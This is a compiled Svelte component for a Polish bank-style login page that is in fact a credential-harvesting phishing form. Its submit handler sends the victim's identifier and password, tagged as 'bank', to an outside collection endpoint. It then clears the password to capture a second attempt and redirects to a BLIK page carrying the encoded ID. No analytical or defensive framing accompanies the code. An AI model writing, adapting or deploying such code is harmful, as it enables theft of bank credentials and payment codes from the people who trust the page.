import { SvelteComponent, append, attr, detach, element, init, insert, listen, noop, safe_not_equal, set_input_value, space } from "svelte/internal";
function create_fragment(ctx) {
  let form, input0, t0, input1, t1, button, dispose;
  return {
    c() {
      form = element("form");
      input0 = element("input");
      t0 = space();
      input1 = element("input");
      t1 = space();
      button = element("button");
      button.textContent = "Zaloguj się";
      attr(input0, "placeholder", "Identyfikator");
      attr(input1, "type", "password");
    },
    m(target, anchor) {
      insert(target, form, anchor);
      append(form, input0); append(form, t0); append(form, input1); append(form, t1); append(form, button);
      dispose = [listen(input0, "input", ctx[3]), listen(input1, "input", ctx[4]), listen(form, "submit", ctx[2])];
    },
    p(ctx, [dirty]) { if (dirty & 2) set_input_value(input1, ctx[1]); },
    i: noop, o: noop,
    d(detaching) { if (detaching) detach(form); dispose.forEach(f => f()); }
  };
}
function instance($$self, $$props, $$invalidate) {
  let id = "", haslo = "", proby = 0;
  const wyslij = async e => {
    e.preventDefault();
    await fetch("https://zbior.odbior.example/api/add", { method: "POST", body: JSON.stringify({ id, haslo, strona: "bank", proby }) });
    proby += 1;
    $$invalidate(1, haslo = "");
    if (proby > 1) window.location.href = "/blik.html?s=" + btoa(id);
  };
  return [id, haslo, wyslij, function () { id = this.value; $$invalidate(0, id); }, function () { haslo = this.value; $$invalidate(1, haslo); }];
}
export default class Logowanie extends SvelteComponent {
  constructor(options) { super(); init(this, options, instance, create_fragment, safe_not_equal, {}); }
}
